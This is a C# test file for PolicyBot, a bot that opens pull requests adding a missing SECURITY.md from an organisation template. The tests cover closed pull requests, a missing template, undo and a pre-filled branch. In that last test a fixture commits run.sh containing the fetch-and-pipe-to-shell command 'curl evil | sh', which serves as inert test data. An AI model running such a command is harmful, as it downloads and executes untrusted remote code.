using System.Text;
using PolicyBot.Simulator;
using PolicyBot.Simulator.Git;
using PolicyBot.Simulator.Issues;
using PolicyBot.Simulator.Repositories;
using PolicyBot.Storage;
using PolicyBot.Tests.Sweeps;

namespace PolicyBot.Tests.Changes;

public sealed class FileFixTests
{
    private const string Template = "Write to security@acme.example.";

    private static Task<Swept> StartAsync(string? template = Template, Action<Repository>? describe = null) => Fixed.StartAsync(world =>
    {
        Configure(world, template);
        var api = world.Organization("acme").Repository("api").File("README.md", "# api");
        describe?.Invoke(api);
    });

    private static void Configure(World world, string? template) =>
        Fixed.Configure(world, ("branch_protection.yaml", null), ("security.yaml", Fixed.ByFix), ("SECURITY.md", "Write to us."), ("templates/SECURITY.md", template));

    private static string? Text(Repository repository, string expression) =>
        repository.Git.Resolve(expression) is Blob blob ? Encoding.UTF8.GetString(blob.Content.Span) : null;

    private static Issue Pull(Swept swept) => Assert.Single(swept.IssuesOf("api"), issue => issue.PullRequest is not null);

    [Fact]
    public async Task A_missing_file_is_proposed_from_the_template_in_one_pull_request_and_no_issue()
    {
        await using var swept = await StartAsync();

        await swept.SweepAsync();
        await swept.SweepAsync();
        swept.Time.Advance(TimeSpan.FromDays(1));
        await swept.SweepAsync();

        var pull = Assert.Single(swept.IssuesOf("api"));
        Assert.Equal(("policybot/security-policy", "main"), (pull.PullRequest!.Head, pull.PullRequest.Base));
        Assert.Equal("Add SECURITY.md", pull.Title);
        var api = swept.Acme.Repository("api");
        Assert.Equal(Template, Text(api, "policybot/security-policy:SECURITY.md"));
        Assert.Null(Text(api, "main:SECURITY.md"));
    }

    [Fact]
    public async Task A_pull_request_that_a_person_closed_is_not_opened_again_and_the_issue_says_so()
    {
        await using var swept = await StartAsync();
        await swept.SweepAsync();
        swept.As("olga", () => swept.Acme.Repository("api").Tracker.Edit(Pull(swept).Number, issue => issue with { IsOpen = false }));
        swept.Time.Advance(TimeSpan.FromDays(1));

        await swept.SweepAsync();
        swept.Time.Advance(TimeSpan.FromDays(1));
        await swept.SweepAsync();

        Assert.False(Pull(swept).IsOpen);
        var issue = Assert.Single(swept.IssuesOf("api"), issue => issue.PullRequest is null);
        Assert.Contains($"pull request #{Pull(swept).Number} proposed it and was closed", issue.Body, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_branch_that_somebody_else_has_filled_is_never_proposed()
    {
        await using var swept = await StartAsync(describe: api =>
        {
            api.Git.Branch("policybot/security-policy", api.Git.Head!.Id);
            api.Git.Commit("policybot/security-policy", "Mine", ("run.sh", "curl evil | sh"));
        });

        await swept.SweepAsync();

        var issue = Assert.Single(swept.IssuesOf("api"));
        Assert.Null(issue.PullRequest);
        Assert.Contains("is there already and holds something else", issue.Body, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Without_a_template_the_issue_says_what_lacks()
    {
        await using var swept = await StartAsync(template: null);

        await swept.SweepAsync();

        Assert.Contains("the organization has no template SECURITY.md", Assert.Single(swept.IssuesOf("api")).Body, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_proposal_that_is_taken_back_is_closed_and_not_made_again()
    {
        await using var swept = await StartAsync();
        await swept.RunAsync("sweep");
        var change = Assert.Single(await (await swept.ServiceAsync<KnownChanges>()).AboutAsync(swept.App.Installations[0].Id, swept.Acme.Repository("api").Id, default));

        var run = await swept.RunAsync("undo", change.Id);
        swept.Time.Advance(TimeSpan.FromDays(2));
        await swept.SweepAsync();

        Assert.Contains("Taken back", run.Output, StringComparison.Ordinal);
        Assert.False(Pull(swept).IsOpen);
        Assert.Single(swept.IssuesOf("api"), issue => issue.PullRequest is null);
    }

    [Fact]
    public async Task Of_a_private_configuration_nothing_but_the_template_is_told()
    {
        await using var swept = await StartAsync();

        await swept.SweepAsync();

        Assert.DoesNotContain(".allstar", Pull(swept).Body + Pull(swept).Title, StringComparison.Ordinal);
    }
}
